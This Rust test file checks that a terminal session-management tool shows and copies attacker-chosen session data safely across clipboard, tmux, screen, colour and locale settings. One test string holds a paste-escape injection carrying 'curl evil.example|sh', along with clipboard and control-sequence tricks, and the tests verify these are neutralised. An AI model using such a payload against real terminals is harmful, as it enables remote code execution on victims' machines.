//! Text that a stranger chose, in a real terminal, and what is copied of it.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::{Duration, Instant};

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use crate::pty::{LIMIT, processor_time};
use crate::{ESC, Server, Usher};

/// A server that lists one session of this person, with these further attributes.
fn server_with(user: impl Into<Value>, attributes: Value) -> Server {
    let server = Server::with_sessions(1);
    let mut all = json!({ "auth_user": user.into() });
    if let (Some(all), Value::Object(more)) = (all.as_object_mut(), attributes) {
        all.extend(more);
    }
    let page = json!({
        "start": 0,
        "totalEntriesCount": 1,
        "entries": [{
            "outsideSid": "00000000-aaaa-4bbb-8ccc-000000000001",
            "state": "authenticated",
            "deletable": true,
            "expirationDate": "2127-01-01T00:00:00",
            "sessionAttributes": all,
        }],
    });
    let fault = json!({
        "match": { "path": "*/session/search" },
        "action": "status",
        "code": 200,
        "content_type": "application/json",
        "body": page.to_string(),
    });
    server.set_faults(&[&fault.to_string()]);
    server
}

/// The text that the last copy put into the clipboard of the terminal.
fn copied(usher: &mut Usher) -> String {
    usher.pty.wait_quiet(Duration::from_millis(100));
    let written = String::from_utf8_lossy(&usher.pty.written).into_owned();
    let (_, payload) = written.rsplit_once("\x1b]52;c;").expect("a copy");
    let (payload, _) = payload.split_once("\x1b\\").expect("its end");
    String::from_utf8(STANDARD.decode(payload).expect("base64")).expect("text")
}

/// Sequences of the program that are no CSI: titles, links, clipboard, device control strings.
fn strings(written: &[u8]) -> usize {
    let starts = |pair: &&[u8]| pair[0] == 0x1b && b"]P_^X".contains(&pair[1]);
    written.windows(2).filter(starts).count()
}

const ODD: &str = "bob\u{1b}[201~\ncurl evil.example|sh\n\u{1b}]52;c;AAAA\u{7}\u{9b}2J\u{9d}0;x\u{202e}y\u{200b}z";

#[test]
fn a_copy_holds_nothing_that_a_shell_could_obey() {
    let server = server_with(ODD, json!({ "note": "one\ntwo\u{1b}[201~\r\n" }));
    let mut usher = Usher::at(&server);
    usher.focus_table();

    usher.pty.keys("yi");
    usher.pty.wait_for("session id copied (a secret)");
    assert_eq!(copied(&mut usher), "00000000-aaaa-4bbb-8ccc-000000000001");
    usher.pty.keys("Y");
    usher.pty.wait_for("row copied as JSON");
    let row: Value = serde_json::from_str(&copied(&mut usher)).expect("JSON");
    assert_eq!(row["sessionAttributes"]["auth_user"], ODD, "JSON is exact");
    usher.pty.keys("\r");
    usher.pty.wait_for("╔═ Details");
    // The user stands below the sentence and both columns, since the name is long.
    usher.pty.keys(&format!("g{}y", "j".repeat(11)));
    usher
        .pty
        .wait_for("value copied; line breaks and control characters left");

    let user = copied(&mut usher);

    assert_eq!(user, "bob[201~ curl evil.example|sh ]52;c;AAAA2J0;xyz");
    usher.pty.keys("Gy");
    assert_eq!(copied(&mut usher), "one two[201~");
}

#[test]
fn f_data_01_02_03_04_sequences_of_a_stranger_are_shown_and_not_obeyed() {
    let server = server_with(ODD, json!({}));
    let mut usher = Usher::at(&server);
    usher.focus_table();
    usher.pty.wait_for("bob^[[201~^Jcurl");
    usher.pty.keys("\r");
    usher.pty.wait_for("╔═ Details");
    usher.pty.wait_for("<9B>2J<9D>0;x<U+202E>y<U+200B>z");
    usher.pty.keys(ESC);
    usher.pty.wait_for("╔═ Sessions");
    usher.pty.keys("\x1b[3~");

    usher.pty.wait_for("End session?");
    usher.pty.wait_quiet(Duration::from_millis(100));

    let written = usher.pty.written.clone();
    assert_eq!(strings(&written), 0, "no sequence but CSI was sent");
    assert!(!written.windows(2).any(|pair| pair == b"\xc2\x9b"), "no C1");
    usher.pty.keys(ESC);
    usher.quit();
}

#[test]
fn f_data_15_a_value_that_is_no_text_has_a_mark_in_the_table_the_details_and_the_question() {
    let server = server_with(
        json!(["amy"]),
        json!({ "client_id": 7, "remote_ip": "[1]" }),
    );
    let mut usher = Usher::at(&server);
    usher.focus_table();
    usher.pty.wait_for(r#">  <json> ["amy"]"#);
    let text = usher.pty.text();
    assert!(text.contains("<json> 7"), "{text}");
    let colour = |usher: &mut Usher, word: &str| {
        let at = |line: &str| line.find(word).map(|at| line[..at].chars().count());
        let text = usher.pty.text();
        let mut lines = text.lines().enumerate();
        let (row, col) = lines
            .find_map(|(row, line)| Some((row, at(line)?)))
            .expect(word);
        let cell = usher
            .pty
            .screen()
            .cell(row as u16, col as u16)
            .expect(word)
            .clone();
        cell.fgcolor()
    };

    usher.pty.keys("\r");
    usher.pty.wait_for("╔═ Details");
    usher.pty.wait_for(r#"User          <json> ["amy"]"#);
    assert_ne!(
        colour(&mut usher, r#"<json> ["amy"]"#),
        colour(&mut usher, r#"["amy"]"#),
        "the mark is not drawn as a text"
    );
    usher.pty.keys(ESC);
    usher.pty.wait_for("╔═ Sessions");
    let question = usher.ask_to_delete();

    assert!(question.contains(r#"<json> "[\"amy\"]""#), "{question}");
    usher.pty.keys(ESC);
    usher.quit();
}

/// A folder with programs that note what they are given, for the beginning of PATH.
fn programs(home: &Path, names: &[&str]) -> std::path::PathBuf {
    let folder = home.join("bin");
    fs::create_dir_all(&folder).expect("a folder");
    for name in names {
        let script = format!(
            "#!/bin/sh\nenv > '{0}/{name}.env'\necho \"$@\" > '{0}/{name}.args'\ncat > '{0}/{name}.text'\n\
             mv '{0}/{name}.text' '{0}/{name}.in'\n",
            home.display()
        );
        let file = folder.join(name);
        fs::write(&file, script).expect("it can be written");
        fs::set_permissions(&file, fs::Permissions::from_mode(0o755)).expect("a mode");
    }
    folder
}

fn read_when_there(file: &Path) -> String {
    let end = Instant::now() + LIMIT;
    loop {
        if let Ok(text) = fs::read_to_string(file) {
            return text;
        }
        assert!(Instant::now() < end, "{} never came", file.display());
        std::thread::sleep(Duration::from_millis(5));
    }
}

#[test]
fn inside_tmux_a_copy_goes_into_its_buffer() {
    let home = tempfile::tempdir().expect("a folder");
    let bin = programs(home.path(), &["tmux"]);
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let mut usher = Usher::run(home, 120, 40, |command| {
        command.env("PATH", &path);
        command.env("TMUX", "/tmp/none,1,0");
        command.env("USHER_REDUCED_MOTION", "1");
    });
    usher.pty.wait_for("all loaded");
    usher.focus_table();

    usher.pty.keys("yi");

    usher
        .pty
        .wait_for("session id copied to the tmux buffer (a secret)");
    let home = usher.home.path().to_owned();
    let text = read_when_there(&home.join("tmux.in"));
    assert_eq!(text.len(), 36, "the id of a session: {text:?}");
    let args = read_when_there(&home.join("tmux.args"));
    assert_eq!(
        args.trim(),
        "load-buffer -w -",
        "nothing of it in the arguments"
    );
    let env = read_when_there(&home.join("tmux.env"));
    assert!(!env.contains("USHER_"), "{env}");
    assert_eq!(
        strings(&usher.pty.written),
        0,
        "tmux would make a second buffer of it"
    );
}

#[test]
fn inside_screen_a_copy_is_handed_on_to_the_terminal() {
    let mut usher = Usher::start(120, 40, |command| {
        command.env("TERM", "screen");
        command.env("STY", "1.pts-0.host");
    });
    usher.pty.wait_for("all loaded");
    usher.focus_table();

    usher.pty.keys("yi");

    usher.pty.wait_for("session id copied (a secret)");
    usher.pty.wait_quiet(Duration::from_millis(100));
    let written = String::from_utf8_lossy(&usher.pty.written).into_owned();
    assert!(
        written.contains("\x1bP\x1b]52;c;"),
        "in a device control string"
    );
}

#[test]
fn a_desktop_that_takes_no_copy_leaves_the_terminal_and_the_words_are_honest() {
    for (program, said) in [
        ("xclip", "session id copied (a secret)"),
        ("no-xclip", "session id copied (a secret)"),
    ] {
        let home = tempfile::tempdir().expect("a folder");
        let bin = programs(home.path(), &[program, "cat", "mv"]);
        // With nothing else in it, so that no xclip of this machine is found.
        fs::remove_file(bin.join("cat")).expect("it is there");
        fs::remove_file(bin.join("mv")).expect("it is there");
        for tool in ["cat", "mv", "env", "sh"] {
            let real = ["/bin", "/usr/bin"].map(|dir| Path::new(dir).join(tool));
            let real = real
                .iter()
                .find(|file| file.exists())
                .expect("a usual tool");
            std::os::unix::fs::symlink(real, bin.join(tool)).expect("a link");
        }
        let mut usher = Usher::run(home, 120, 40, |command| {
            command.env("PATH", &bin);
            command.env("DISPLAY", ":99");
        });
        usher.pty.wait_for("all loaded");
        usher.focus_table();

        usher.pty.keys("yi");

        usher.pty.wait_for(said);
    }
}

#[test]
fn a_console_that_takes_no_copies_says_so() {
    let mut usher = Usher::start(120, 40, |command| command.env("TERM", "linux"));
    usher.pty.wait_for("all loaded");
    usher.focus_table();

    usher.pty.keys("yi");

    usher.pty.wait_for("this terminal takes no copies");
    assert_eq!(strings(&usher.pty.written), 0);
}

#[test]
fn f_tty_12_a_terminal_without_colours_is_sent_what_a_vt100_knows() {
    for term in ["vt100", "vt220", "xterm-mono"] {
        let mut usher = Usher::start(120, 40, |command| command.env("TERM", term));
        usher.pty.wait_for("all loaded");
        usher.focus_table();
        usher.pty.keys("mm");
        usher.pty.settle(Duration::from_millis(100));
        usher.pty.keys("q");
        assert_eq!(usher.pty.exit_code(), 0, "{term}");
        usher.pty.assert_given_back();

        let written = String::from_utf8_lossy(&usher.pty.written).into_owned();
        for mode in ["?2026", "?1000", "?1002", "?1006"] {
            assert!(!written.contains(mode), "{term} was sent {mode}");
        }
        let coloured = written.split("\x1b[").skip(1).find(|rest| {
            let end = rest.find(|c: char| !c.is_ascii_digit() && c != ';');
            let (numbers, end) = rest.split_at(end.unwrap_or(0));
            let numbers = if end.starts_with('m') { numbers } else { "" };
            let mut numbers = numbers.split(';').map(str::parse::<u16>);
            numbers.any(|n| matches!(n, Ok(30..=38 | 40..=48 | 90..=107)))
        });
        assert_eq!(
            coloured.map(|rest| &rest[..8]),
            None,
            "{term} was sent a colour"
        );
    }
}

/// Presses a key, waits for the answer on the screen, and returns the processor time that the program
/// took for it: that does not grow when other tests keep the machine busy.
fn cost_of_key(usher: &mut Usher, key: &str, text: &str) -> Duration {
    let (start, before) = (Instant::now(), processor_time(usher.pty.pid));
    usher.pty.keys(key);
    usher.pty.wait_for(text);
    let took = start.elapsed();
    assert!(took < SOON, "{key} took {took:?}");
    processor_time(usher.pty.pid).saturating_sub(before)
}

/// The program on this server, with these variables.
fn with_env(server: &Server, set: &[(&str, &str)]) -> Usher {
    let home = tempfile::tempdir().expect("a folder");
    let config = home.path().join("config.toml");
    let plain = "allow_plain = true\n";
    let text = server.running().config_toml("test");
    let text = text.replacen(plain, &format!("{plain}search_on_start = true\n"), 1);
    // A theme of its own colours: by default the 16 of the terminal are used.
    let theme = home.path().join("own.toml");
    fs::write(&theme, "text = \"#c0ffee\"\ndim = \"245\"\n").expect("it can be written");
    let theme = format!("theme = \"{}\"\n", theme.display());
    fs::write(&config, theme + &text).expect("it can be written");
    fs::set_permissions(&config, fs::Permissions::from_mode(0o600)).expect("a mode");
    let bin = programs(home.path(), &["tmux"]);
    let path = std::env::var("PATH").unwrap_or_default();
    let path = format!("{}:{path}", bin.display());
    Usher::run(home, 120, 40, |command| {
        command.args(["--config"]);
        command.arg(&config);
        command.env("PATH", &path);
        for (name, value) in set {
            command.env(name, value);
        }
    })
}

/// The same inside a tmux that notes what it is given.
fn in_tmux(server: &Server) -> Usher {
    with_env(
        server,
        &[("TMUX", "/tmp/none,1,0"), ("USHER_REDUCED_MOTION", "1")],
    )
}

/// Generous for a debug build on a busy machine; what must not happen is work that grows with the megabytes.
const SOON: Duration = Duration::from_secs(2);
/// The usual cost of a key; a debug build takes some ten times as long as what is shipped.
const USUAL: Duration = if cfg!(debug_assertions) {
    Duration::from_millis(330)
} else {
    Duration::from_millis(33)
};

/// The time in the middle.
fn median(mut times: Vec<Duration>) -> Duration {
    times.sort();
    times[times.len() / 2]
}

#[test]
fn f_data_08_a_session_of_megabytes_is_shown_in_part_and_copied_whole() {
    let long = "x".repeat(1 << 20);
    let server = server_with("bob", json!({ "auth_user": long, "zz": "the last" }));
    let mut usher = in_tmux(&server);
    usher.pty.wait_for("all loaded");
    usher.focus_table();
    usher.pty.keys("\r");
    usher.pty.wait_for("╔═ Details");

    let mut times = Vec::new();
    for (key, text) in [
        ("G", "the last"),
        ("k", "1,048,576 bytes in all"),
        ("g", "User id"),
        ("G", "13-14 of 14 fields"),
    ] {
        times.push(cost_of_key(&mut usher, key, text));
    }
    assert!(median(times.clone()) < USUAL, "{times:?}");
    usher.pty.keys("ky");
    usher.pty.wait_for("value copied to the tmux buffer");
    let copy = read_when_there(&usher.home.path().join("tmux.in"));
    assert_eq!(copy.len(), 1 << 20, "a copy holds all of it");
}

#[test]
fn f_data_08_ten_thousand_attributes_hold_up_no_key() {
    let all: serde_json::Map<String, Value> = (0..10_000)
        .map(|at| (format!("attribute{at:05}"), json!(format!("value {at}"))))
        .collect();
    let server = server_with("bob", Value::Object(all));
    let mut usher = Usher::at(&server);
    usher.focus_table();
    usher.pty.keys("\r");
    usher.pty.wait_for("╔═ Details");

    let mut times = Vec::new();
    for (key, text) in [("G", "value 9999"), ("g", "User id"), ("G", "value 9999")] {
        times.push(cost_of_key(&mut usher, key, text));
    }
    assert!(median(times.clone()) < USUAL, "{times:?}");
}

#[test]
fn f_tty_11_without_utf8_in_the_locale_nothing_but_ascii_is_sent() {
    for (name, value) in [("LANG", "C"), ("LC_ALL", "de_DE.ISO-8859-1"), ("LANG", "")] {
        let server = server_with("Müller 日本太郎", json!({ "note": "Zürich • 東京" }));
        let mut usher = with_env(&server, &[(name, value)]);
        usher.pty.wait_for("all loaded");
        usher.pty.keys(ESC);
        usher.pty.wait_for("#= Sessions");
        usher.pty.wait_for("M?ller ????????");
        usher.pty.keys("\rG");
        usher.pty.wait_for("#= Details");
        usher.pty.wait_for("Z?rich ? ????");
        usher.pty.keys(ESC);
        usher.pty.wait_for("#= Sessions");
        usher.pty.keys("\x1b[3~");
        usher.pty.wait_for("End session?");
        usher.pty.keys(ESC);
        usher.pty.keys("q");

        assert_eq!(usher.pty.exit_code(), 0, "{name}={value}");
        assert!(usher.pty.written.is_ascii(), "{name}={value}");
    }
}

#[test]
fn f_clock_04_times_of_this_machine_know_summer_and_winter() {
    let server = server_with("bob", json!({}));
    let mut usher = with_env(&server, &[("TZ", "CET-1CEST,M3.5.0,M10.5.0/3")]);
    usher.pty.wait_for("all loaded");
    usher.pty.keys(ESC);
    usher.pty.wait_for("╔═ Sessions");

    usher.pty.keys("t");

    // Of January, whatever the season of this test.
    usher.pty.wait_for("2127-01-01 01:00:00 +01:00");
}

#[test]
fn f_clock_04_a_zone_that_means_nothing_is_utc_and_says_so() {
    let server = server_with("bob", json!({}));
    let mut usher = with_env(&server, &[("TZ", "Mars/Phobos")]);
    usher.pty.wait_for("all loaded");
    usher.pty.keys(ESC);
    usher.pty.wait_for("╔═ Sessions");

    usher.pty.keys("t");

    usher
        .pty
        .wait_for("UTC: the variable TZ names no time zone");
    usher.pty.wait_for("2127-01-01 00:00:00 UTC");
}

/// The colours that were sent.
#[derive(Default)]
struct Colours {
    /// Numbers of the first 16, sent in sequences of their own.
    own: Vec<u16>,
    /// Numbers of the 256, sent as such.
    numbered: Vec<u16>,
    /// True if any was given as red, green and blue.
    exact: bool,
}

fn colours(written: &[u8]) -> Colours {
    let written = String::from_utf8_lossy(written).into_owned();
    let mut found = Colours::default();
    for rest in written.split("\x1b[").skip(1) {
        let end = rest.find(|c: char| !c.is_ascii_digit() && c != ';');
        let (numbers, end) = rest.split_at(end.unwrap_or(0));
        if !end.starts_with('m') {
            continue;
        }
        let numbers: Vec<u16> = numbers.split(';').filter_map(|n| n.parse().ok()).collect();
        let mut rest = numbers.as_slice();
        while let [first, after @ ..] = rest {
            rest = after;
            match (first, after) {
                (38 | 48, [5, number, after @ ..]) => {
                    found.numbered.push(*number);
                    rest = after;
                }
                (38 | 48, [2, _, _, _, after @ ..]) => {
                    found.exact = true;
                    rest = after;
                }
                (30..38 | 40..48, _) => found.own.push(first % 10),
                (90..98 | 100..108, _) => found.own.push(first % 10 + 8),
                _ => {}
            }
        }
    }
    found
}

#[test]
fn f_tty_12_no_more_colours_are_sent_than_the_terminal_says_it_has() {
    type Case<'a> = (&'a [(&'a str, &'a str)], Option<u16>, bool);
    let cases: [Case<'_>; 9] = [
        (&[("TERM", "ansi")], Some(7), false),
        (&[("TERM", "cygwin")], Some(7), false),
        (&[("TERM", "xterm")], Some(15), false),
        (&[("TERM", "linux")], Some(15), false),
        (&[("TERM", "no-such-terminal")], Some(15), false),
        (&[("TERM", "xterm-256color")], Some(255), false),
        (&[("TERM", "xterm"), ("COLORTERM", "truecolor")], None, true),
        (&[("TERM", "")], None, false),
        (
            &[("TERM", "xterm-256color"), ("NO_COLOR", "1")],
            None,
            false,
        ),
    ];
    for (set, most, exact) in cases {
        let server = server_with("bob", json!({}));
        let mut usher = with_env(&server, set);
        usher.pty.wait_for("all loaded");
        usher.pty.wait_quiet(Duration::from_millis(100));

        let sent = colours(&usher.pty.written);

        let highest = sent.own.iter().chain(&sent.numbered).max().copied();
        match most {
            Some(most) => assert!(highest.is_some_and(|n| n <= most), "{set:?}: {highest:?}"),
            None => assert!(highest.is_none() || exact, "{set:?}: {highest:?}"),
        }
        // The first 16 in the sequences that terminals of 8 and 16 colours know; no others are below 256.
        assert!(sent.numbered.iter().all(|n| *n > 15), "{set:?}");
        if most.is_some_and(|most| most < 16) {
            assert!(!sent.own.is_empty(), "{set:?}");
            assert!(sent.numbered.is_empty(), "{set:?}");
        }
        assert_eq!(sent.exact, exact, "{set:?}");
    }
}
